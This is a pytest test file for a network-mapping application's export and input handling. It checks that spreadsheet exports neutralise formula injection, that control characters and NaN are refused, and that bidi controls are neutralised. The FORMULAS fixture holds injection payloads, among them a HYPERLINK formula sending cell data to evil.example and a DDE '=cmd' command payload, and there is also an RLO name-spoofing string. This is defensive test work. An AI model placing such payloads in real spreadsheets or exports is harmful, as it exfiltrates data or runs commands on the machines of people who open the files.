"""Exports and input (issue 13, defects 4, 8, 10, 16): formula cells neutralised in every
export meant for spreadsheets, the workspace's own exports import back unchanged, control
characters refused on the way in (every store) and stripped on the way out, NaN and Infinity
refused, and bidi controls neutralised where names are shown.
"""

from __future__ import annotations

import csv
import io
import json
import uuid
import zipfile

import pytest
from openpyxl import load_workbook

from mapper.errors import ValidationError
from mapper.io import export as exporter
from mapper.io.cells import FORMULA_STARTS
from mapper.io.plan import plan_import
from mapper.io.readers import read_bytes
from mapper.model import Node, NodeKind
from mapper.store import SQLiteStore

#: Names an attacker may give a person (OWASP's examples and the ones the attack used).
FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "+31 6 12345678",
    "-2+3",
    "@SUM(A1:A2)",
    "'t Hof",
    "''dubbel",
)


@pytest.fixture
def town(tmp_path):
    store = SQLiteStore(tmp_path / "town.db")
    ws = store.create_workspace("demo", "Bibliotheek")
    theme = ws.add_node("Theme", "=thema")
    for i, name in enumerate(FORMULAS):
        person = ws.add_node("Person", name, props={"notes": f"=noot {i}", "bron": "-x"})
        ws.add_tie("ACTIVE_ON", person.id, theme.id, strength=0.6, origin="@scan")
    yield store
    store.close()


def _cells_of_xlsx(data: bytes):
    wb = load_workbook(io.BytesIO(data))  # not data_only: formulas would show as formulas
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            yield from row


def test_the_xlsx_export_holds_no_formula(town):
    out = io.BytesIO()
    exporter.export(town, "demo", "xlsx", out)
    texts = []
    for cell in _cells_of_xlsx(out.getvalue()):
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
            assert cell.quotePrefix, (cell.coordinate, cell.value)
        texts.append(cell.value)
    assert set(FORMULAS) <= set(texts)


def test_the_csv_export_starts_no_cell_with_a_formula_character(town):
    out = io.BytesIO()
    exporter.export(town, "demo", "csv", out)
    seen = []
    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as zf:
        for name in zf.namelist():
            if not name.endswith(".csv"):
                continue
            text = zf.read(name).decode("utf-8-sig")
            for row in csv.reader(io.StringIO(text, newline=""), delimiter=";"):
                for cell in row:
                    assert not cell.startswith(FORMULA_STARTS), (name, cell)
                    seen.append(cell)
    assert "'" + FORMULAS[0] in seen and "''t Hof" in seen


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_the_workspaces_own_export_imports_back_unchanged(town, fmt):
    out = io.BytesIO()
    exporter.export(town, "demo", fmt, out)
    found = read_bytes(out.getvalue(), "export" + exporter.FORMATS[fmt])
    plan = plan_import(town, "demo", found)
    assert not plan.errors, plan.errors[:3]
    assert plan.changes_nothing(), plan.summary(limit=5)
    # and into an empty workspace, every name comes back exactly
    town.create_workspace("copy")
    plan = plan_import(town, "copy", read_bytes(out.getvalue(), "export" + exporter.FORMATS[fmt]))
    assert not plan.errors, plan.errors[:3]
    plan.apply()
    assert {n.name for n in town.nodes("copy", kind="Person")} == set(FORMULAS)


def test_the_audit_csv_neutralises_tabs_and_quotes_too(tmp_path):
    from tests.privacy_helpers import login, make_app, seed_two_workspaces

    town = seed_two_workspaces(tmp_path)
    store = SQLiteStore(town.path)
    store.add_node("alpha", "Person", "\t=1+1")
    store.add_node("alpha", "Person", "'=2")
    store.close()
    client = make_app(town).test_client()
    login(client, "editor@alpha.nl")
    text = client.get("/privacy/audit.csv").get_data(as_text=True).lstrip("\ufeff")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert "'=1+1" in cells and "''=2" in cells  # names are trimmed: the tab went


# --------------------------------------------------------------------------- 8: control characters


CONTROLS = ("Jan\x00", "Jan\x1b[31m", "Jan\x07", "Jan\x7f", "Jan\x85")


@pytest.mark.parametrize("name", CONTROLS)
def test_control_characters_are_refused_by_every_store(any_store, name):
    # A name of its own, cleaned up afterwards: the Neo4j server may be shared by many runs.
    slug = f"ctl-{CONTROLS.index(name)}-{uuid.uuid4().hex[:8]}"
    ws = any_store.create_workspace(slug)
    any_store.created_workspaces.append(slug)
    with pytest.raises(ValidationError, match="control character"):
        ws.add_node("Person", name)
    jan = ws.add_node("Person", "Jan")
    piet = ws.add_node("Person", "Piet")
    for bad in (
        lambda: ws.update_node(jan.id, name=name),
        lambda: ws.add_node("Person", "Kees", props={"notes": name}),
        lambda: ws.add_node("Person", "Kees", props={"lijst": [{"x": name}]}),
        lambda: ws.add_tie("KNOWS", jan.id, piet.id, origin=name),
        lambda: ws.add_contact(jan.id, piet.id, on="2026-01-01", notes=name),
    ):
        with pytest.raises(ValidationError, match="control character"):
            bad()
    assert {n.name for n in ws.nodes()} == {"Jan", "Piet"}


def test_line_breaks_are_not_control_characters_in_notes(store):
    ws = store.create_workspace("nl")
    node = ws.add_node("Person", "Jan\nde Vries", props={"notes": "regel 1\r\n\tregel 2"})
    assert node.name == "Jan de Vries" and node.props["notes"] == "regel 1\r\n\tregel 2"


def test_an_import_with_a_control_character_is_refused_and_writes_nothing(store):
    store.create_workspace("demo")
    found = read_bytes(b"soort;naam\npersoon;Jan\x00\npersoon;Piet\n", "s.csv")
    plan = plan_import(store, "demo", found)
    assert [(e.row, e.column) for e in plan.errors] == [(2, "naam")]
    assert store.counts("demo").get("Person", 0) == 0


def test_control_characters_stored_before_are_stripped_on_export(tmp_path):
    store = SQLiteStore(tmp_path / "old.db")
    store.create_workspace("demo")
    # a name stored before the store refused control characters (written past validation)
    with store.atomic():
        old = Node("per-old00001", NodeKind.PERSON, "Jan\x00\x1b Vries", recorded_at="2025-01-01")
        store._insert_nodes("demo", [old])
    for fmt in ("xlsx", "csv", "graphml", "gexf", "json"):
        out = io.BytesIO()
        exporter.export(store, "demo", fmt, out)
        assert out.getvalue()
    out = io.BytesIO()
    exporter.export(store, "demo", "xlsx", out)
    names = [c.value for c in _cells_of_xlsx(out.getvalue())]
    assert "Jan Vries" in names


# --------------------------------------------------------------------------- 10: NaN, Infinity


@pytest.mark.parametrize("value", [float("nan"), float("inf"), float("-inf")])
def test_nan_and_infinity_are_refused_in_properties(any_store, value):
    # a name of its own per run: a shared Neo4j server keeps the workspaces of earlier runs
    ws = any_store.create_workspace(f"nan-{uuid.uuid4().hex[:12]}")
    with pytest.raises(ValidationError, match="not a number"):
        ws.add_node("Organisation", "Club", props={"score": value})
    with pytest.raises(ValidationError, match="not a number"):
        ws.add_node("Organisation", "Club", props={"lijst": [1, value]})


def test_the_json_export_is_valid_json(store):
    ws = store.create_workspace("demo")
    ws.add_node("Organisation", "Club", props={"score": 1.5})
    out = io.BytesIO()
    exporter.export(store, "demo", "json", out)
    json.loads(out.getvalue(), parse_constant=lambda c: pytest.fail(f"{c} in the export"))


@pytest.mark.parametrize("text", ['{"score": NaN}', '{"score": Infinity}', '{"score": -Infinity}'])
def test_nan_in_an_imported_json_cell_is_a_row_error(store, text):
    store.create_workspace("demo")
    cell = text.replace('"', '""')
    found = read_bytes(f'soort;naam;overige gegevens\npersoon;Jan;"{cell}"\n'.encode(), "s.csv")
    plan = plan_import(store, "demo", found)
    assert plan.errors and "not JSON" in plan.errors[0].message


# --------------------------------------------------------------------------- 16: bidi controls


RLO_NAME = "Jan \u202eeivaS\u202c de Vries"


def test_bidi_controls_are_neutralised_where_names_are_shown(app):
    store = SQLiteStore(app.config["DATABASE_URL"].removeprefix("sqlite:///"))
    person = store.add_node("demo", "Person", RLO_NAME)
    store.close()
    client = app.test_client()
    for path in (f"/entity/{person.id}", f"/privacy/person/{person.id}", "/privacy/"):
        html = client.get(path).get_data(as_text=True)
        assert "Jan eivaS de Vries" in html, path
        assert "\u202e" not in html and "\u202c" not in html, path
    export = client.get(f"/privacy/person/{person.id}/export.html").get_data(as_text=True)
    assert "\u202e" not in export and "Jan eivaS de Vries" in export
    # the data itself is kept as given (the access export as data shows it exactly)
    data = client.get(f"/privacy/person/{person.id}/export.json").get_json()
    assert RLO_NAME in json.dumps(data, ensure_ascii=False)


# --------------------------------------------------------------------------- 11: extreme dates


@pytest.mark.parametrize("day", ["9999-12-31", "0001-01-01"])
def test_extreme_dates_are_clamped_with_a_message_on_every_dated_page(demo_app, day):
    store = SQLiteStore(demo_app.config["DATABASE_URL"].removeprefix("sqlite:///"))
    community = next(iter(store.nodes("demo", kind="Community")))
    theme = next(iter(store.nodes("demo", kind="Theme")))
    person = next(iter(store.nodes("demo", kind="Person")))
    store.close()
    client = demo_app.test_client()
    for path in (
        "/",
        "/frame",
        "/themes",
        f"/scan/{theme.id}",
        "/communities/",
        f"/communities/{community.id}",
        f"/communities/{community.id}/map",
        f"/communities/{community.id}/changes",
        f"/entity/{person.id}",
    ):
        response = client.get(path, query_string={"as_of": day, "from": day, "to": day})
        assert response.status_code == 200, (path, response.status_code)
        html = response.get_data(as_text=True)
        if path != "/" and not path.startswith("/entity/"):  # these two are not dated
            assert "ligt buiten 1900-01-01 – 2199-12-31" in html, path


def test_the_kumu_workbook_holds_no_formula(town):
    out = io.BytesIO()
    exporter.export(town, "demo", "kumu", out)
    cells = list(_cells_of_xlsx(out.getvalue()))
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert FORMULAS[0] in {c.value for c in cells}
